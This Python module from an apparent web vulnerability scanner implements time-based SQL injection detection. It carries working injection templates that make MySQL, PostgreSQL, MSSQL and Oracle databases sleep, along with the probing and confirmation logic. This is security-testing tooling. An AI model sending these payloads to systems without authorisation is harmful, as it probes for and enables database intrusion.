"""The time-based technique: make the DBMS sleep and let :mod:`lunge.checks.timing` decide.

Each sleep is wrapped so the DBMS evaluates it once per query, not once per row (a subquery or a
stacked statement), so the observed delay follows the requested one and the regression can judge
it. One probe per (context, DBMS family) when nothing sleeps, sent outside the quiet lane; six
when one does (five of them in the lane).
"""

from __future__ import annotations

import logging
from collections.abc import Callable, Generator
from dataclasses import dataclass

from lunge.checks.base import Attack, CheckContext, Confidence, Exchange
from lunge.checks.sqli_context import Context, Outcome
from lunge.checks.timing import LatencyModel, TimingDecision, TimingRules, confirm_delay, seconds

logger = logging.getLogger(__name__)
# Up to eight probes per point, nearly all negative: screen each outside the quiet lane first, so
# the engine drains the host only for the few that look delayed.
RULES = TimingRules(screen=True)


def _mssql_delay(delay: float) -> str:
    """``WAITFOR DELAY``'s ``hh:mm:ss.mmm``.

    >>> _mssql_delay(1.5)
    '00:00:01.500'
    """
    whole = int(delay)
    return f"{whole // 3600:02d}:{whole // 60 % 60:02d}:{delay - whole + whole % 60:06.3f}"


@dataclass(frozen=True, slots=True)
class Sleeper:
    """How one DBMS family sleeps: a condition (``{n}`` a random number, ``{w}`` a random word,
    ``{d}`` the seconds) AND-ed into the query, or a stacked statement when ``stacked``.

    >>> MYSQL.payload(Context("numeric"), "5", 2.0, 77, "q")
    '5 AND 77=(SELECT 77 FROM (SELECT(SLEEP(2)))q)'
    """

    dbms: tuple[str, ...]
    template: str
    stacked: bool = False
    delay_format: Callable[[float], str] = seconds

    def payload(self, context: Context, value: str, delay: float, number: int, word: str) -> str:
        text = self.template.format(n=number, w=word, d=self.delay_format(delay))
        return context.stacked(value, text) if self.stacked else context.condition(value, text, word)


# MySQL's SLEEP also serves SQLite applications that register a sleep() function.
MYSQL = Sleeper(("MySQL", "SQLite"), "{n}=(SELECT {n} FROM (SELECT(SLEEP({d}))){w})")
POSTGRESQL = Sleeper(("PostgreSQL",), "{n}=(SELECT {n} FROM PG_SLEEP({d}))")
MSSQL = Sleeper(("Microsoft SQL Server", "Sybase"), "WAITFOR DELAY '{d}'", stacked=True, delay_format=_mssql_delay)
ORACLE = Sleeper(("Oracle",), "{n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(76)||CHR(71),{d})")
SLEEPERS = (MYSQL, POSTGRESQL, MSSQL, ORACLE)


def sleepers_for(dbms: str | None) -> tuple[Sleeper, ...]:
    """Only the known DBMS's way to sleep when an error named it, else every family's."""
    known = tuple(s for s in SLEEPERS if dbms in s.dbms)
    return known or SLEEPERS


def _payload_for(sleeper: Sleeper, context: Context, value: str, number: int, word: str) -> Callable[[float], str]:
    """The payload for any delay, the random parts fixed: only the seconds change between probes."""
    def payload(delay: float) -> str:
        return sleeper.payload(context, value, delay, number, word)
    return payload


def time_based(ctx: CheckContext, contexts: tuple[Context, ...],
               dbms: str | None) -> Generator[list[Attack], list[Exchange], tuple[Outcome | None, int]]:
    """Try each (context, DBMS) pair until one sleeps as asked; (outcome, requests sent)."""
    model: LatencyModel | None = None
    requests = 0
    for context in contexts:
        for sleeper in sleepers_for(dbms):
            if sleeper.stacked and not context.stackable:
                continue
            label = f"sqli-time:{context.name}:{sleeper.dbms[0]}"
            payload = _payload_for(sleeper, context, ctx.point.value, ctx.number(), ctx.marker(4))
            result = yield from confirm_delay(ctx, payload, label, model=model, rules=RULES)
            model, requests = result.model, requests + result.requests + result.calibration
            if result.decision is TimingDecision.LAGGING:
                logger.info("sqli time probes on %s given up: %s", ctx.point.name, result.reason)
                return None, requests
            if result.confirmed:
                details = {"technique": "time", "context": context.name, "dbms": "/".join(sleeper.dbms),
                           **result.details}
                return Outcome("time", result.exchange, result.proof, result.confirmation, Confidence.FIRM,
                               result.controls, details), requests
    return None, requests
